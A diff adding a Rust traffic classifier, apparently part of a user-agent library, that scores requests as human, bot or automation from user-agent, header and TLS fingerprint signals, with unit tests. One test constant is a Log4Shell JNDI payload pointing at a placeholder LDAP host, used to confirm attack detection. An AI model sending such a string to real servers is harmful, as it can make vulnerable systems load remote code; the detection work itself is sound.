@@ -0,0 +1,420 @@
+use std::fmt;
+
+use bot::{BotCategory, BotName, BotSource};
+use consistency::ConsistencyChecker;
+use fingerprint::{FingerprintDb, FingerprintKind, Fingerprints, Plausibility};
+use headers::{self, HeaderFinding};
+use heuristic::{Confidence, Evidence, HeuristicMatch};
+use library::LibraryName;
+use threat::{self, ThreatKind};
+use user_agent::UserAgent;
+use verify::Verification;
+
+/// Products that only appear in headless browsers and browser automation frameworks
+const AUTOMATION_TOKENS: [&str; 9] = [
+    "HeadlessChrome", "PhantomJS", "SlimerJS", "HtmlUnit", "Selenium", "WebDriver",
+    "Puppeteer", "Playwright", "Cypress",
+];
+
+#[derive(Clone, Copy, Debug, PartialEq)]
+pub enum TrafficKind {
+    /// A browser, or a native app on a known platform, with nothing suspicious about it
+    Human,
+    /// A catalog bot that isn't a security scanner (search engines, monitors, link previews)
+    /// and that `verify::Verifier` confirmed
+    KnownGoodBot,
+    /// A catalog bot that hasn't been verified. Anyone can send a crawler's user agent.
+    ClaimedBot,
+    /// A security scanner, a user agent carrying an attack payload, or a client that failed
+    /// verification as the crawler it claims to be
+    KnownBadBot,
+    /// A library, headless browser or heuristic bot, or a browser whose signals don't add up
+    Automation,
+    /// Not enough evidence either way
+    Unknown,
+}
+
+impl fmt::Display for TrafficKind {
+    fn fmt(&self, f: &mut fmt::Formatter) -> fmt::Result {
+        fmt::Debug::fmt(self, f)
+    }
+}
+
+/// A piece of evidence that contributed to a `Verdict`
+#[derive(Clone, Debug, PartialEq)]
+pub enum Signal {
+    CatalogBot(BotName),
+    /// Claimed to be a crawler, but verification failed
+    ImpersonatedBot(BotName),
+    HeuristicBot(Confidence),
+    /// One of the `AUTOMATION_TOKENS`
+    Headless(&'static str),
+    Library(LibraryName),
+    /// The id of a violated consistency rule
+    Inconsistent(&'static str),
+    Threat(ThreatKind),
+    Header(HeaderFinding),
+    Fingerprint(FingerprintKind),
+}
+
+impl fmt::Display for Signal {
+    fn fmt(&self, f: &mut fmt::Formatter) -> fmt::Result {
+        use self::Signal::*;
+
+        match *self {
+            CatalogBot(ref name)   => write!(f, "known bot {}", name),
+            ImpersonatedBot(ref n) => write!(f, "failed verification as {}", n),
+            HeuristicBot(ref c)    => write!(f, "looks like a bot ({:?} confidence)", c),
+            Headless(token)        => write!(f, "automation framework {}", token),
+            Library(ref name)      => write!(f, "HTTP library {}", name),
+            Inconsistent(rule)     => write!(f, "inconsistent user agent ({})", rule),
+            Threat(kind)           => write!(f, "attack payload ({})", kind),
+            Header(ref finding)    => write!(f, "unexpected headers ({:?})", finding),
+            Fingerprint(kind)      => write!(f, "{:?} fingerprint doesn't match the browser", kind),
+        }
+    }
+}
+
+#[derive(Clone, Debug, PartialEq)]
+pub struct Explanation {
+    pub signal: Signal,
+    /// How much the signal counted towards the score, from 0.0 to 1.0
+    pub weight: f32,
+}
+
+#[derive(Clone, Debug, PartialEq)]
+pub struct Verdict {
+    pub kind: TrafficKind,
+    /// How likely the request is automated, from 0.0 (human) to 1.0 (automated). Weights are
+    /// combined the same way as `ConsistencyReport::spoof_likelihood`.
+    pub score: f32,
+    pub explanations: Vec<Explanation>,
+}
+
+/// Weights for each kind of signal and the score thresholds between verdicts. Every field is
+/// public so callers can tune them against their own traffic.
+#[derive(Clone, Debug, PartialEq)]
+pub struct Tuning {
+    pub heuristic_low: f32,
+    pub heuristic_medium: f32,
+    pub heuristic_high: f32,
+    pub headless: f32,
+    pub library: f32,
+    /// Multiplied by the weight of each violated consistency rule
+    pub inconsistency: f32,
+    pub missing_header: f32,
+    pub out_of_order_header: f32,
+    pub library_headers: f32,
+    pub fingerprint_mismatch: f32,
+    /// A user agent longer than `threat::MAX_LENGTH`
+    pub oversized: f32,
+    /// Scores at or above this are `Automation`
+    pub automation_threshold: f32,
+    /// Browsers scoring below this are `Human`; anything in between is `Unknown`
+    pub human_threshold: f32,
+}
+
+impl Default for Tuning {
+    fn default() -> Tuning {
+        Tuning {
+            heuristic_low:        0.3,
+            heuristic_medium:     0.6,
+            heuristic_high:       0.9,
+            headless:             0.9,
+            library:              0.7,
+            inconsistency:        1.0,
+            missing_header:       0.15,
+            out_of_order_header:  0.2,
+            library_headers:      0.8,
+            fingerprint_mismatch: 0.7,
+            oversized:            0.4,
+            automation_threshold: 0.5,
+            human_threshold:      0.25,
+        }
+    }
+}
+
+/// Request data beyond the user agent. Everything is optional; signals that aren't provided
+/// simply don't count.
+#[derive(Clone, Debug, Default)]
+pub struct RequestContext<'a> {
+    /// Request header names in the order they were received
+    pub headers: Option<&'a [&'a str]>,
+    pub fingerprints: Option<Fingerprints<'a>>,
+    /// The result of `verify::Verifier::verify` for the client's address. Catalog bots are only
+    /// `KnownGoodBot` once verified.
+    pub bot_verification: Option<Verification>,
+}
+
+#[derive(Clone, Debug, Default)]
+pub struct TrafficClassifier {
+    pub tuning: Tuning,
+    checker: ConsistencyChecker,
+    fingerprint_db: Option<FingerprintDb>,
+}
+
+impl TrafficClassifier {
+    pub fn new(tuning: Tuning) -> TrafficClassifier {
+        TrafficClassifier { tuning: tuning, ..TrafficClassifier::default() }
+    }
+
+    pub fn with_consistency_checker(mut self, checker: ConsistencyChecker) -> TrafficClassifier {
+        self.checker = checker;
+        self
+    }
+
+    /// Fingerprints in the `RequestContext` are ignored unless there's a database to check them
+    /// against.
+    pub fn with_fingerprint_db(mut self, db: FingerprintDb) -> TrafficClassifier {
+        self.fingerprint_db = Some(db);
+        self
+    }
+
+    pub fn classify(&self, ua: &UserAgent, context: &RequestContext) -> Verdict {
+        let tuning = &self.tuning;
+
+        let (threats, suspicions): (Vec<ThreatKind>, Vec<ThreatKind>) = threat::kinds(&threat::scan(&ua.source))
+            .into_iter()
+            .partition(ThreatKind::is_conclusive);
+        if !threats.is_empty() {
+            let explanations = threats.into_iter()
+                .map(|kind| Explanation { signal: Signal::Threat(kind), weight: 1.0 })
+                .collect();
+
+            return Verdict { kind: TrafficKind::KnownBadBot, score: 1.0, explanations: explanations }
+        }
+
+        if let Some(ref bot) = ua.bot {
+            if bot.source == BotSource::Catalog {
+                let catalog_bot = Signal::CatalogBot(bot.name.clone());
+                let (kind, signal) = if bot.name.category() == BotCategory::SecurityScanner {
+                    (TrafficKind::KnownBadBot, catalog_bot)
+                } else {
+                    match context.bot_verification {
+                        Some(ref verification) if verification.is_verified() => (TrafficKind::KnownGoodBot, catalog_bot),
+                        Some(Verification::Failed) => (TrafficKind::KnownBadBot, Signal::ImpersonatedBot(bot.name.clone())),
+                        _ => (TrafficKind::ClaimedBot, catalog_bot),
+                    }
+                };
+                let explanation = Explanation { signal: signal, weight: 1.0 };
+
+                return Verdict { kind: kind, score: 1.0, explanations: vec![explanation] }
+            }
+        }
+
+        // Native apps (`MyApp/3.2.1 CFNetwork/1220.1 Darwin/20.3.0`) have no browser, but naming
+        // themselves and their OS counts for them the way a browser does
+        let native_app = ua.app.is_some() && ua.platform.is_some();
+
+        let mut explanations = vec![];
+        {
+            let mut add = |signal: Signal, weight: f32| {
+                explanations.push(Explanation { signal: signal, weight: weight.clamp(0.0, 1.0) })
+            };
+
+            // `UserAgent::parse` drops low-confidence matches, so analyze again for those. Older
+            // browsers (`Opera/9.80 (...) Presto/...`) and apps don't start with `Mozilla/`, so
+            // that alone doesn't count against them.
+            if let Some(analyzed) = HeuristicMatch::analyze(&ua.source) {
+                let only_no_mozilla = analyzed.evidence == [Evidence::NoMozillaPrefix];
+
+                if ua.library.is_none() && !(only_no_mozilla && (ua.browser.is_some() || native_app)) {
+                    let weight = match analyzed.confidence {
+                        Confidence::Low    => tuning.heuristic_low,
+                        Confidence::Medium => tuning.heuristic_medium,
+                        Confidence::High   => tuning.heuristic_high,
+                    };
+                    add(Signal::HeuristicBot(analyzed.confidence), weight)
+                }
+            }
+
+            for kind in suspicions {
+                add(Signal::Threat(kind), tuning.oversized)
+            }
+
+            for token in AUTOMATION_TOKENS.iter() {
+                if ua.source.contains(token) {
+                    add(Signal::Headless(token), tuning.headless)
+                }
+            }
+
+            // An app's user agent may end with the library it's built on (`okhttp/4.9.0`)
+            if let Some(ref library) = ua.library {
+                if !native_app {
+                    add(Signal::Library(library.name.clone()), tuning.library)
+                }
+            }
+
+            for rule in self.checker.check(ua).violations {
+                add(Signal::Inconsistent(rule.id), rule.weight * tuning.inconsistency)
+            }
+
+            if let Some(names) = context.headers {
+                for finding in headers::check_headers(ua, names).findings {
+                    let weight = match finding {
+                        HeaderFinding::Missing(_)          => tuning.missing_header,
+                        HeaderFinding::OutOfOrder(_, _)    => tuning.out_of_order_header,
+                        HeaderFinding::LibrarySignature(_) => tuning.library_headers,
+                    };
+                    add(Signal::Header(finding), weight)
+                }
+            }
+
+            if let (Some(db), Some(fingerprints)) = (self.fingerprint_db.as_ref(), context.fingerprints.as_ref()) {
+                if let Plausibility::Implausible(mismatches) = db.check(ua, fingerprints) {
+                    for mismatch in mismatches {
+                        add(Signal::Fingerprint(mismatch.kind), tuning.fingerprint_mismatch)
+                    }
+                }
+            }
+        }
+
+        let score = 1.0 - explanations.iter().fold(1.0, |human, e| human * (1.0 - e.weight));
+
+        let kind = if score >= tuning.automation_threshold {
+            TrafficKind::Automation
+        } else if (ua.browser.is_some() || native_app) && score < tuning.human_threshold {
+            TrafficKind::Human
+        } else {
+            TrafficKind::Unknown
+        };
+
+        Verdict {
+            kind:         kind,
+            score:        score,
+            explanations: explanations,
+        }
+    }
+}
+
+/// Classify a request with the default `Tuning` and consistency rules. Use a
+/// `TrafficClassifier` to tune the weights or to check TLS/HTTP2 fingerprints.
+pub fn classify_traffic(ua: &UserAgent, context: &RequestContext) -> Verdict {
+    TrafficClassifier::default().classify(ua, context)
+}
+
+#[cfg(test)]
+mod tests {
+    use fingerprint::{FingerprintDb, Fingerprints};
+    use threat::{self, ThreatKind};
+    use user_agent::UserAgent;
+    use verify::Verification;
+    use super::{classify_traffic, RequestContext, Signal, TrafficClassifier, TrafficKind, Tuning};
+
+    type StaticStr = &'static str;
+
+    const CHROME_120: StaticStr = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36";
+    const HEADLESS: StaticStr   = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/120.0.0.0 Safari/537.36";
+    const GOOGLEBOT: StaticStr  = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)";
+    const SQLMAP: StaticStr     = "sqlmap/1.7.2#stable (https://sqlmap.org)";
+    const LOG4SHELL: StaticStr  = "${jndi:ldap://198.51.100.1:1389/a}";
+    const CURL: StaticStr       = "curl/7.68.0";
+    const OPERA_12: StaticStr   = "Opera/9.80 (X11; Linux i686; Ubuntu/14.10) Presto/2.12.388 Version/12.16";
+    const FACEBOOK: StaticStr   = "Mozilla/5.0 (Linux; Android 13; SM-S908U Build/TP1A.220624.014; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/119.0.6045.163 Mobile Safari/537.36 [FB_IAB/FB4A;FBAV/442.0.0.33.113;]";
+
+    const CHROME_HEADERS: &[&str] = &[
+        "sec-ch-ua", "sec-ch-ua-mobile", "sec-ch-ua-platform", "upgrade-insecure-requests",
+        "user-agent", "accept", "sec-fetch-site", "sec-fetch-mode", "sec-fetch-user",
+        "sec-fetch-dest", "accept-encoding", "accept-language",
+    ];
+
+    fn classify(ua: &str) -> TrafficKind {
+        classify_traffic(&UserAgent::parse(ua), &RequestContext::default()).kind
+    }
+
+    #[test]
+    fn test_kinds() {
+        assert_eq!(classify(CHROME_120), TrafficKind::Human);
+        assert_eq!(classify(GOOGLEBOT),  TrafficKind::ClaimedBot);
+        assert_eq!(classify(SQLMAP),     TrafficKind::KnownBadBot);
+        assert_eq!(classify(LOG4SHELL),  TrafficKind::KnownBadBot);
+        assert_eq!(classify(HEADLESS),   TrafficKind::Automation);
+        assert_eq!(classify(CURL),       TrafficKind::Automation);
+        assert_eq!(classify(OPERA_12),   TrafficKind::Human);
+    }
+
+    #[test]
+    fn test_native_apps() {
+        assert_eq!(classify("MyApp/3.2.1 CFNetwork/1220.1 Darwin/20.3.0"), TrafficKind::Human);
+        assert_eq!(classify("Dalvik/2.1.0 (Linux; U; Android 11; Pixel 5 Build/RQ3A.210805.001.A1)"), TrafficKind::Human);
+        assert_eq!(classify("MyApp/1.2.3 (Android 11; Pixel 5) okhttp/4.9.0"), TrafficKind::Human);
+
+        // Without a platform it's just a product token
+        assert_eq!(classify("MyApp/3.2.1"), TrafficKind::Unknown);
+    }
+
+    #[test]
+    fn test_long_user_agents() {
+        // In-app browsers pad the user agent with their own details
+        let padded = format!("{} {}", FACEBOOK, "FBEXT/1.0;".repeat(100));
+        assert_eq!(classify(&padded), TrafficKind::Human);
+
+        // Past the limit it counts against the user agent, but doesn't settle it
+        let oversized = format!("{} {}", CHROME_120, "A".repeat(threat::MAX_LENGTH));
+        let verdict   = classify_traffic(&UserAgent::parse(&oversized), &RequestContext::default());
+        assert_eq!(verdict.kind, TrafficKind::Unknown);
+        assert_eq!(verdict.explanations[0].signal, Signal::Threat(ThreatKind::Oversized));
+
+        let payload = format!("{} {}", oversized, LOG4SHELL);
+        assert_eq!(classify(&payload), TrafficKind::KnownBadBot);
+    }
+
+    #[test]
+    fn test_bot_verification() {
+        let googlebot = UserAgent::parse(GOOGLEBOT);
+        let verdict   = |verification| {
+            let context = RequestContext { bot_verification: Some(verification), ..RequestContext::default() };
+            classify_traffic(&googlebot, &context)
+        };
+
+        assert_eq!(verdict(Verification::VerifiedIpRange).kind, TrafficKind::KnownGoodBot);
+        assert_eq!(verdict(Verification::LookupFailed).kind, TrafficKind::ClaimedBot);
+
+        let failed = verdict(Verification::Failed);
+        assert_eq!(failed.kind, TrafficKind::KnownBadBot);
+        assert_eq!(failed.explanations[0].signal.to_string(), "failed verification as Googlebot");
+    }
+
+    #[test]
+    fn test_headers_contribute() {
+        let ua      = UserAgent::parse(CHROME_120);
+        let genuine = RequestContext { headers: Some(CHROME_HEADERS), ..RequestContext::default() };
+        let scraper = RequestContext {
+            headers: Some(&["Host", "User-Agent", "Accept-Encoding", "Accept", "Connection"]),
+            ..RequestContext::default()
+        };
+
+        assert_eq!(classify_traffic(&ua, &genuine).kind, TrafficKind::Human);
+
+        let verdict = classify_traffic(&ua, &scraper);
+        assert_eq!(verdict.kind, TrafficKind::Automation);
+        assert!(verdict.score > 0.9);
+        assert!(verdict.explanations.iter().all(|e| matches!(e.signal, Signal::Header(_))));
+    }
+
+    #[test]
+    fn test_fingerprints_contribute() {
+        let db = FingerprintDb::parse("ja3\t579ccef312d18482fc42e2b822ca2430\tFirefox\t*").unwrap();
+        let context = RequestContext {
+            fingerprints: Some(Fingerprints { ja3: Some("579ccef312d18482fc42e2b822ca2430"), ..Fingerprints::default() }),
+            ..RequestContext::default()
+        };
+        let ua = UserAgent::parse(CHROME_120);
+
+        assert_eq!(classify_traffic(&ua, &context).kind, TrafficKind::Human);
+        assert_eq!(
+            TrafficClassifier::default().with_fingerprint_db(db).classify(&ua, &context).kind,
+            TrafficKind::Automation
+        );
+    }
+
+    #[test]
+    fn test_tuning() {
+        let tuning     = Tuning { library: 0.1, ..Tuning::default() };
+        let classifier = TrafficClassifier::new(tuning);
+
+        let verdict = classifier.classify(&UserAgent::parse(CURL), &RequestContext::default());
+        assert_eq!(verdict.kind, TrafficKind::Unknown);
+        assert!((verdict.score - 0.1).abs() < 0.0001);
+    }
+}